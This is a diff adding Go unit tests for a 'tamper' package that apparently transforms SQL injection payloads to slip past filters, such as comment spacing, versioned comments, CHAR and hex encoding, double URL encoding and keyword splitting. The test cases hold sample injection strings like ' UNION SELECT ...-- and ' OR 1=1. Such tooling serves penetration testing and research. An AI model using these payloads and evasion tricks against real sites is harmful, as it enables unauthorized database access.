@@ -0,0 +1,87 @@
+package tamper
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestSplitLiterals(t *testing.T) {
+	tests := []struct {
+		name    string
+		payload string
+		want    []segment
+	}{
+		{"code only", " AND 1=1", []segment{{text: " AND 1=1"}}},
+		{
+			"starts inside the original string",
+			"' UNION SELECT 'a'--",
+			[]segment{{literal: true, closed: true}, {text: " UNION SELECT "}, {text: "a", literal: true, opened: true, closed: true}, {text: "--"}},
+		},
+		{
+			"opens a string after whitespace",
+			" AND 'x'='x",
+			[]segment{{text: " AND "}, {text: "x", literal: true, opened: true, closed: true}, {text: "="}, {text: "x", literal: true, opened: true}},
+		},
+		{
+			"doubled quotes stay in the literal",
+			" AND 'it''s'=1",
+			[]segment{{text: " AND "}, {text: "it''s", literal: true, opened: true, closed: true}, {text: "=1"}},
+		},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			got := splitLiterals(test.payload)
+			if !slices.Equal(got, test.want) {
+				t.Errorf("got %+v, want %+v", got, test.want)
+			}
+			rendered := joinSegments(got, nil, nil)
+			if rendered != test.payload {
+				t.Errorf("segments render as %q, want the payload back", rendered)
+			}
+		})
+	}
+}
+
+func TestBuiltins(t *testing.T) {
+	tests := []struct {
+		tamper  string
+		payload string
+		want    string
+	}{
+		{"space2comment", "' UNION SELECT 'a b'--", "'/**/UNION/**/SELECT/**/'a b'--"},
+		{"versionedcomment", "' UNION SELECT 'union'--", "' /*!50000UNION*/ /*!50000SELECT*/ 'union'--"},
+		{"versionedcomment", " AND selected=1", " /*!50000AND*/ selected=1"},
+		{"charstring", "' UNION SELECT 'ab'--", "' UNION SELECT CHAR(97,98)--"},
+		{"charstring", "' AND ''=''--", "' AND ''=''--"},
+		{"hexstring", "' UNION SELECT 'it''s'--", "' UNION SELECT 0x69742773--"},
+		{"doubleurlencode", "' OR 1=1", "%27%20OR%201%3D1"},
+		{"unicodeescape", "' OR é", "%u0027%u0020OR%u0020%u00E9"},
+		{"xmlentity", "'a", "&#x27;&#x61;"},
+		{"keywordsplit", "' UNION SELECT 'or'--", "' UNUNIONION SELSELECTECT 'or'--"},
+	}
+	for _, test := range tests {
+		t.Run(test.tamper, func(t *testing.T) {
+			tamper, ok := Get(test.tamper)
+			if !ok {
+				t.Fatalf("tamper %s is not registered", test.tamper)
+			}
+			if got := tamper.Apply(test.payload); got != test.want {
+				t.Errorf("%s(%q) = %q, want %q", test.tamper, test.payload, got, test.want)
+			}
+		})
+	}
+}
+
+func TestRandomCaseOnlyChangesKeywordCase(t *testing.T) {
+	payload := "' UNION SELECT 'select' FROM users--"
+	for range 20 {
+		got := randomCase(payload)
+		if !strings.EqualFold(got, payload) {
+			t.Fatalf("randomcase(%q) = %q, changed more than case", payload, got)
+		}
+		if !strings.Contains(got, "'select' ") || !strings.Contains(got, " users--") {
+			t.Fatalf("randomcase(%q) = %q, changed a literal or an identifier", payload, got)
+		}
+	}
+}